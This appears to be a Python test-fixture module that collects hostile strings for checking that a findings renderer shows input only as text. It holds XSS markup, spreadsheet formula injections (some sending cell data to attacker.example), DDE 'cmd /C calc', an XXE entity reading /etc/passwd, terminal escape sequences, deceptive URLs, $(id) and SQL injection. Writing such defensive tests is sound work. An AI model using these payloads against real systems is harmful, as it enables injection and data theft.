"""Strings that try to be more than text: whatever shows findings must show them as text, and do nothing that they say."""

# ruff: noqa: RUF001, PLE2502 - they are meant to deceive
from __future__ import annotations

from itertools import product
from typing import Final

__all__ = ["MARK", "hostile_strings"]

MARK: Final = "document.documentElement.setAttribute('data-ran','yes')"
"""What a script of ours does, so that a test can see that one ran."""

_SCRIPT: Final = f"<script>{MARK}</script>"

MARKUP: Final = [
    _SCRIPT,
    _SCRIPT.upper().replace(MARK.upper(), MARK),
    f"<ScRiPt >{MARK}</sCrIpT >",
    f"<script\n>{MARK}</script\n>",
    f"<script/x>{MARK}</script>",
    f'<script src="data:text/javascript,{MARK}"></script>',
    f"<script src='data:text/javascript;base64,ZG9jdW1lbnQ='></script>{_SCRIPT}",
    f"<script type=module>{MARK}</script>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<<script>{MARK}//<</script>",
    f"<img src=x onerror={MARK}>",
    f"<img src=x onerror='{MARK}'>",
    f'<img src="x" onerror="{MARK}">',
    f"<img/src=x/onerror={MARK}>",
    f"<IMG SRC=`x` ONERROR=`{MARK}`>",
    f'<img """><script>{MARK}</script>">',
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<svg><set attributeName=onload to={MARK}>",
    f"<math><mtext></p><img src=x onerror={MARK}></mtext></math>",
    f"<body onload={MARK}>",
    f"<body onpageshow={MARK}>",
    f"<html onmouseover={MARK}>",
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<select autofocus onfocus={MARK}>",
    f"<textarea autofocus onfocus={MARK}>",
    f"<video src=x onerror={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<audio src=x onerror={MARK}>",
    f"<marquee onstart={MARK}>",
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f'<iframe src="javascript:parent.{MARK}"></iframe>',
    f'<object data="data:text/html,{_SCRIPT}"></object>',
    f'<embed src="data:text/html,{_SCRIPT}">',
    f'<form action="javascript:{MARK}"><button autofocus>go</button></form>',
    f"<isindex action=javascript:{MARK} type=submit>",
    f'<a href="javascript:{MARK}">x</a>',
    f'<a href=" &#14; javascript:{MARK}">x</a>',
    "<a href=https://attacker.example/ ping=https://attacker.example/>x</a>",
    f'<meta http-equiv=refresh content="0;url=data:text/html,{_SCRIPT}">',
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<base href=https://attacker.example/>",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<link rel=dns-prefetch href=//attacker.example>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://attacker.example/x.css';</style>",
    f"<style onload={MARK}>",
    '<div style="position:fixed;inset:0;background:url(https://attacker.example)">',
    "<p hidden>",
    "<template>",
    "<plaintext>",
    "<xmp>",
    '<noscript><p title="</noscript><img src=x onerror=' + MARK + '>">',
    f"<title></title>{_SCRIPT}",
    f"</title>{_SCRIPT}",
    f"</style>{_SCRIPT}",
    f"</textarea>{_SCRIPT}",
    f"</script>{_SCRIPT}",
    f"</table></main></body></html>{_SCRIPT}",
    "<!--",
    "-->",
    f"--!>{_SCRIPT}",
    f"<!-- --!>{_SCRIPT}<!-- -->",
    f"<!--><img src=x onerror={MARK}>",
    f"<![CDATA[{_SCRIPT}]]>",
    f"]]>{_SCRIPT}",
    f"]]>]]&gt;<![CDATA[{_SCRIPT}",
    "<?php echo 1 ?>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;'>]>&b;&b;",
    "<report><incidentSummary/></report>",
    "</report><report>",
    "{{ 7 * 7 }}",
    "{% for x in range(9) %}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    f"{{{{ ''.__class__ }}}}{_SCRIPT}",
]

ENTITIES: Final = [
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3c;script&#x3e;",
    "&#0000060script&#0000062",
    "&lt&gt&amp",
    "&amp;lt;script&amp;gt;",
    "&a;",
    "&#0;",
    "&#xD800;",
    "&#x110000;",
    "&#x202e;",
    "&nbsp;&shy;",
    "&quot;&apos;",
    "&Tab;&NewLine;",
    "&",
    "&&&&",
    "&#",
    "&#x",
]

ATTRIBUTE_BREAKS: Final = [
    f"{quote}{break_}{handler}={MARK}{end}"
    for quote, break_, (handler, end) in product(
        ['"', "'", "`", '">', "'>"],
        [" ", "/", "\n", "\t", "\f"],
        [("onmouseover", " x="), ("onfocus autofocus", ">")],
    )
]  # fmt: skip

_FORMULAS: Final = [
    "1+1",
    "SUM(1,2)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://attacker.example/?x="&A1,"see")',
    'WEBSERVICE("https://attacker.example/")',
    'IMPORTXML("https://attacker.example/","//a")',
    'DDE("cmd";"/C calc";"x")',
]  # fmt: skip

FORMULAS: Final = [
    before + sign + formula
    for before, sign, formula in product(
        ["", " ", "\t", "\r", "\n", "\u00a0", "\ufeff", "\u200b", '"'],
        ["=", "+", "-", "@"],
        _FORMULAS[:3],
    )
]
FORMULAS += ["=" + formula for formula in _FORMULAS]
FORMULAS += [sign + "1+1" for sign in "＝＋－＠﹦﹢﹣﹫−⁼⁺⁻₌₊₋"]
FORMULAS += [f"a{cut}{sign}1+1" for cut, sign in product(";,\t|", "=+-@")]
FORMULAS += [
    'a";=1+1',
    'a"\r\n=1+1',
    "a\r\n=1+1,b",
    "a\n=1+1",
    '"=1+1',
    '","=1+1',
    "'=1+1",
    "=",
    "@",
    "-2+3+cmd|' /C calc'!A0",
]
FORMULAS += [
    "\t=1+1",
    "\x0b=1+1",
    "\x0c=1+1",
    "\x00=1+1",
    "\x1c=1+1",
    "\u2028=1+1",
    "\u3000=1+1",
    "\u180e=1+1",
    "\u2060=1+1",
]

CONTROLS: Final = [f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))]
CONTROLS += [
    "\x00",
    "\x00\x00\x00",
    "a\x00",
    "a\r",
    "a\r\nb",
    "a\n\nb",
    "a\tb",
    "a\u0085b",
    "a\u2028b",
    "a\u2029b",
    "\ufeffa",
    "a\ufffeb",
    "a\uffffb",
]

INVISIBLE: Final = [
    f"https://images.example/{mark}gpj.exe"
    for mark in "\u061c\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2061\u2062\u2063\u2064"
    "\u2066\u2067\u2068\u2069\u00ad\u034f\u180e\u3164\ufff9\ufffa\ufffb"
]
INVISIBLE += [
    "\u202e" * 100,
    "\u2066\u2067\u2068" * 30,
    "a\u2069\u202cb",
    "\U000e0041\U000e0042",
    "\U000e0001",
    "\u202eelif\u202d.jpg",
]
RIGHT_TO_LEFT: Final = ["שלום", "שלום.jpg", "https://דוגמה.example/א", "مثال", "abc שלום 123 (def)", "‫abc‬"]

TERMINAL: Final = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b[1A\x1b[2K0 findings",
    "\x1b]0;title\x07",
    "\x1b]8;;https://attacker.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;YXR0YWNr\x07",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1b]4;1;?\x07",
    '\x1bP$q"p\x1b\\',
    "\x1b[6n",
    "\x1b[c",
    "\x1b[?1049h",
    "\x1b[8m",
    "\x1b#8",
    "\x1bc",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "\x90q\x9c",
    "\x9fx\x9c",
    "\x08\x08\x08\x08safe",
    "\rfinding of nothing",
    "\x0e\x0f",
    "\x05",
    "a\x1b",
    "\x1b",
    "\x1b[",
    "\x18\x1a",
    "\x7f\x7f",
]  # fmt: skip

SCHEMES: Final = [
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"java\tscript:{MARK}",
    f"java\nscript:{MARK}",
    f"\x01javascript:{MARK}",
    f"javascript&colon;{MARK}",
    f"javascript://images.example/%0a{MARK}",
    f"vbscript:{MARK}",
    f"data:text/html,{_SCRIPT}",
    "data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://images.example/1",
    "file:///etc/passwd",
    "\\\\attacker.example\\share\\x.jpg",
    "//attacker.example/x.jpg",
    "ms-word:ofe|u|https://attacker.example/x.docx",
    "search-ms:query=x",
    "tel:+15550100",
    "mailto:a@b.example?body=x",
    "https://user:word@images.example/x.jpg",
    "https://images.example@attacker.example/x.jpg",
    "https://images.example:443#@attacker.example/",
    "https://[::1]/x.jpg",
    "https://0x7f.1/x.jpg",
    "https://images.example/%00.jpg",
    "https://images.example/%0d%0aSet-Cookie:x=1",
    "https://images.example/\r\nX: y",
    "https://images.example/?a=1&b=2&lt;=3&copy=4",
    "https://images.example/'onmouseover='x",
    'https://images.example/"><b>',
]

HOMOGLYPHS: Final = [
    "https://imаges.example/x.jpg",
    "https://ιmages.example/x.jpg",
    "https://images。example/x.jpg",
    "https://images.example／x.jpg",
    "https：//images.example",
    "https://ｉmages.example/",
    "ѕсript",
    "＜script＞",
    "﹤script﹥",
    "‹script›",
    "ʺonx=1",
    "𝓼𝓬𝓻𝓲𝓹𝓽",
]
UTF_7: Final = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+/v8 +ADw-script+AD4-",
    "+AD0-1+-1",
    "\u00bcscript\u00be",
    "%3Cscript%3E",
    "\\x3cscript\\x3e",
    "\\u003cscript\\u003e",
    "\\u{3C}",
]
SURROGATES: Final = ["\ud800", "\udfff", "a\ud800b", "\udc80\udcff", "\ud83d", "\ude00\ud83d", "\udcff<script>"]
COMBINED: Final = [
    "a" + "\u0300" * 200,
    "e\u0301",
    "\u0338=1+1",
    "👩\u200d👩\u200d👧",
    "\U0010ffff",
    "\ufdd0",
    "\ue000",
    "\U0001f600",
    "ﷺ" * 50,
]
LONG: Final = [
    "a" * 100_000,
    "<" * 20_000,
    '"' * 20_000,
    "=" * 5_000,
    "&amp;" * 5_000,
    "https://images.example/" + "a/" * 5_000,
    "\u202e" * 5_000,
    "\x00" * 5_000,
    " " * 5_000 + "=1+1",
    "\n" * 5_000,
    "ä" * 40_000,
]
PLAIN: Final = [
    "",
    " ",
    "  a  ",
    "0",
    "-1",
    "1e5",
    "00123",
    "NULL",
    "None",
    "nan",
    "true",
    "a,b",
    'a"b',
    "a;b",
    "'a",
    "a'b",
    "a|b",
    "\\",
    "\\n",
    "a\\",
    "%s%s%n",
    "../../etc/passwd",
    "CON",
    "$(id)",
    "`id`",
    "'; DROP TABLE x; --",
]


def hostile_strings() -> list[str]:
    """All of them, each once."""
    sorts = (
        MARKUP, ENTITIES, ATTRIBUTE_BREAKS, FORMULAS, CONTROLS, INVISIBLE, RIGHT_TO_LEFT, TERMINAL,
        SCHEMES, HOMOGLYPHS, UTF_7, SURROGATES, COMBINED, LONG, PLAIN,
    )  # fmt: skip
    return list(dict.fromkeys(text for sort in sorts for text in sort))
